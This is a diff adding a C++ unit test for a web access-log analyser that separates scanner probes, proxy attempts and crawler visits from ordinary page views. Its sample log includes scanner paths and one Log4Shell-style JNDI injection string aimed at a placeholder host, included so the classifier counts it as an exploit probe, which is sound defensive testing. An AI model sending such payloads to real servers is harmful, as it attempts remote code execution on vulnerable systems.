@@ -183,6 +183,60 @@ TEST_F(inputs, names_the_layout_each_log_was_read_as)
     EXPECT_EQ(hits_of(tally).at(" /t/774"), 1U);
 }
 
+TEST_F(inputs, sets_probes_apart_and_counts_crawlers)
+{
+    // Scanners and bots trying the server, and search engines asking for pages, among visits.
+    std::string const log =
+        "203.0.113.7 - - [10/Oct/2023:13:55:36 +0100] \"GET /t/agm/774 HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n"
+        "66.249.66.1 - - [10/Oct/2023:13:55:37 +0100] \"GET /t/agm/774 HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0 "
+        "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)\"\n"
+        "66.249.66.1 - - [10/Oct/2023:13:55:38 +0100] \"GET /t/old/999 HTTP/1.1\" 404 5 \"-\" \"Mozilla/5.0 "
+        "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)\"\n"
+        "40.77.167.1 - - [10/Oct/2023:13:55:39 +0100] \"HEAD /t/old/999 HTTP/1.1\" 404 0 \"-\" \"Mozilla/5.0 "
+        "(compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)\"\n"
+        "198.51.100.1 - - [10/Oct/2023:13:56:00 +0100] \"GET /wp-login.php HTTP/1.1\" 404 5 \"-\" \"Mozilla/5.0\"\n"
+        "198.51.100.1 - - [10/Oct/2023:13:56:01 +0100] \"POST /xmlrpc.php HTTP/1.1\" 404 5 \"-\" \"Mozilla/5.0\"\n"
+        "198.51.100.2 - - [10/Oct/2023:13:56:02 +0100] \"GET //phpMyAdmin/ HTTP/1.1\" 404 5 \"-\" \"-\"\n"
+        "198.51.100.3 - - [10/Oct/2023:13:56:03 +0100] \"CONNECT www.example.com:443 HTTP/1.1\" 400 0 \"-\" \"-\"\n"
+        "198.51.100.3 - - [10/Oct/2023:13:56:04 +0100] \"GET http://www.baidu.com/ HTTP/1.1\" 404 0 \"-\" \"-\"\n"
+        "198.51.100.4 - - [10/Oct/2023:13:56:05 +0100] \"GET /?x=${jndi:ldap://x.example/a} HTTP/1.1\" 404 5 \"-\" "
+        "\"-\"\n"
+        "198.51.100.5 - - [10/Oct/2023:13:56:06 +0100] \"GET /t/agm/774 HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0 "
+        "zgrab/0.x\"\n";
+    auto const file = dir.write("access.log", log).string();
+    std::vector<std::string> const old_hosts = {OLD_HOST};
+    traffic_classifier const traffic{old_hosts};
+    read_access_log(file, tally, summary, {nullptr, false, false, &traffic, false}, nullptr);
+    EXPECT_EQ(summary.log_requests, 4U);
+    EXPECT_EQ(summary.skipped_method, 0U); // the POST to xmlrpc.php is a probe
+    EXPECT_EQ(summary.probe_requests(), 7U);
+    EXPECT_EQ(summary.probes[static_cast<std::size_t>(probe_kind::scanner_path)], 3U);
+    EXPECT_EQ(summary.probes[static_cast<std::size_t>(probe_kind::proxy)], 2U);
+    EXPECT_EQ(summary.probes[static_cast<std::size_t>(probe_kind::exploit)], 1U);
+    EXPECT_EQ(summary.probes[static_cast<std::size_t>(probe_kind::scanner_agent)], 1U);
+    EXPECT_EQ(hits_of(tally), (std::map<std::string, std::uint64_t>{{" /t/agm/774", 2}, {" /t/old/999", 2}}));
+    // Who asked: the crawlers, per URL.
+    std::map<std::string, std::uint64_t> crawled;
+    for (std::size_t i = 0; i < tally.size(); ++i) {
+        tally.for_each_crawler(i, [&](std::uint8_t bot, std::uint64_t hits) {
+            crawled[tally[i].target + " " + std::string{name(static_cast<crawler>(bot))}] += hits;
+        });
+    }
+    EXPECT_EQ(crawled, (std::map<std::string, std::uint64_t>{
+                           {"/t/agm/774 Googlebot", 1}, {"/t/old/999 Googlebot", 1}, {"/t/old/999 Bingbot", 1}}));
+
+    // --count-probes: the GET and HEAD probes count like any request; the others are skipped.
+    url_tally all{OLD_HOST};
+    input_summary counted;
+    counted.probes_counted = true;
+    read_access_log(file, all, counted, {nullptr, false, false, &traffic, true}, nullptr);
+    EXPECT_EQ(counted.probe_requests(), 7U);
+    EXPECT_EQ(counted.log_requests, 9U);
+    EXPECT_EQ(counted.skipped_method, 2U); // POST and CONNECT
+    EXPECT_EQ(hits_of(all).at(" /wp-login.php"), 1U);
+    EXPECT_EQ(hits_of(all).at("www.baidu.com /"), 1U);
+}
+
 TEST_F(inputs, an_unreadable_log_is_an_error_naming_it)
 {
     try {
